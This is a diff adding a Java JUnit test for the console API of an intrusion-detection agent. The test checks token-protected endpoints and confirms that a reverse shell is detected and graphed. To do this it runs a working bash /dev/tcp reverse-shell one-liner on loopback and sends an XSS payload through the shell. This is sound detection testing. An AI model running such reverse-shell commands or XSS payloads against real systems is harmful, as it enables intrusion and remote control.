@@ -1,0 +1,116 @@
+package dev.vigil.cli;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.ObjectMapper;
+import org.junit.jupiter.api.Test;
+
+import java.io.OutputStream;
+import java.net.InetAddress;
+import java.net.ServerSocket;
+import java.net.Socket;
+import java.net.URI;
+import java.net.http.HttpClient;
+import java.net.http.HttpRequest;
+import java.net.http.HttpResponse;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.concurrent.TimeUnit;
+import java.util.regex.Matcher;
+import java.util.regex.Pattern;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+/**
+ * The console's API against a real store filled by a real 'vigil run' during a reverse shell on
+ * loopback: the token is required, the incident is there, and its graph holds the listener's
+ * address, the shell's command line and the command run inside it, hostile text kept as text.
+ */
+class ConsoleApiTest {
+    private static final ObjectMapper JSON = new ObjectMapper();
+    private final HttpClient http = HttpClient.newHttpClient();
+
+    private HttpResponse<String> get(String url, String token) throws Exception {
+        HttpRequest.Builder b = HttpRequest.newBuilder(URI.create(url));
+        if (token != null) {
+            b.header("Authorization", "Bearer " + token);
+        }
+        return http.send(b.build(), HttpResponse.BodyHandlers.ofString());
+    }
+
+    @Test
+    void anIncidentAndItsAttackGraphAreServedBehindTheToken() throws Exception {
+        Path data = Files.createTempDirectory("vigil-console");
+        try (AgentProcess agent = AgentProcess.start("--data", data.toString(), "--listen", "127.0.0.1:0");
+             ServerSocket listener = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
+            Matcher m = Pattern.compile("console (http://\\S+/) token ([0-9a-f]{64})").matcher(String.join("\n", agent.stderr));
+            assertTrue(m.find(), "vigil run prints the console's address and token: " + agent.stderr);
+            String base = m.group(1), token = m.group(2);
+            assertEquals("rw-------", java.nio.file.attribute.PosixFilePermissions.toString(
+                    Files.getPosixFilePermissions(data.resolve("console.token"))));
+
+            assertEquals(200, get(base + "health", null).statusCode());
+            assertEquals(401, get(base + "api/incidents", null).statusCode());
+            assertEquals(401, get(base + "api/incidents", "0".repeat(64)).statusCode());
+            assertEquals(401, get(base + "metrics", null).statusCode());
+
+            int port = listener.getLocalPort();
+            Process bash = new ProcessBuilder("bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/" + port + "; exec sh -i <&3 >&3 2>&3").start();
+            try (Socket s = listener.accept()) {
+                OutputStream out = s.getOutputStream();
+                out.write("id\necho '<img src=x onerror=alert(1)>' > /dev/null; sh -c 'echo \"<img src=x onerror=alert(1)>\"'\nexit\n"
+                        .getBytes(StandardCharsets.UTF_8));
+                out.flush();
+                s.getInputStream().readAllBytes();
+            }
+            assertTrue(bash.waitFor(10, TimeUnit.SECONDS));
+            long shell = bash.pid();
+
+            JsonNode incident = null;
+            for (int i = 0; i < 100 && incident == null; i++) {
+                for (JsonNode inc : JSON.readTree(get(base + "api/incidents", token).body())) {
+                    JsonNode full = JSON.readTree(get(base + "api/incidents/" + inc.get("id").asText(), token).body());
+                    for (JsonNode a : full.get("alerts")) {
+                        if (a.get("rule").asText().equals("Reverse shell") && a.get("events").get(0).get("pid").asLong() == shell) {
+                            incident = full;
+                        }
+                    }
+                }
+                Thread.sleep(100);
+            }
+            assertTrue(incident != null, "the reverse shell's incident is in the store within seconds");
+            JsonNode graph = JSON.readTree(get(base + "api/incidents/" + incident.get("id").asText() + "/graph", token).body());
+            boolean peer = false, shellNode = false, commandInside = false, hostileAsText = false;
+            for (JsonNode n : graph.get("nodes")) {
+                String kind = n.path("kind").asText();
+                peer |= kind.equals("peer") && n.path("label").asText().equals("127.0.0.1:" + port);
+                if (kind.equals("process")) {
+                    String args = n.path("args").toString();
+                    shellNode |= n.path("pid").asLong() == shell && args.contains("\"-i\"") && n.has("rules");
+                    commandInside |= n.path("comm").asText().equals("id");
+                    hostileAsText |= n.path("args").toString().contains("<img src=x onerror=alert(1)>");
+                }
+            }
+            assertTrue(peer, "the listener's address is a peer node: " + graph);
+            assertTrue(shellNode, "the shell is a process node with its rules: " + graph);
+            assertTrue(commandInside, "the command run inside the shell is in the graph: " + graph);
+            assertTrue(hostileAsText, "hostile argv is kept, as a JSON string");
+            assertTrue(get(base + "api/incidents/" + incident.get("id").asText() + "/graph", token).headers()
+                    .firstValue("Content-Type").orElse("").startsWith("application/json"));
+
+            String alertId = incident.get("alerts").get(0).get("id").asText();
+            assertEquals(200, get(base + "api/alerts/" + alertId, token).statusCode());
+            assertEquals(200, get(base + "api/alerts/" + alertId + "/graph", token).statusCode());
+            assertEquals(404, get(base + "api/alerts/nope", token).statusCode());
+            String execId = incident.get("alerts").get(0).get("events").get(0).get("exec_id").asText();
+            JsonNode process = JSON.readTree(get(base + "api/processes/" + java.net.URLEncoder.encode(execId, StandardCharsets.UTF_8), token).body());
+            assertTrue(process.get("children").size() >= 1, "the shell's children are listed: " + process);
+            assertTrue(JSON.readTree(get(base + "api/events?type=execve&limit=5", token).body()).size() > 0);
+            String metrics = get(base + "metrics", token).body();
+            assertTrue(metrics.contains("vigil_store_rows{table=\"alerts\"}"), metrics);
+            assertTrue(JSON.readTree(get(base + "api/health", token).body()).has("events_by_hook"));
+            assertEquals(0, agent.stop());
+        }
+    }
+}
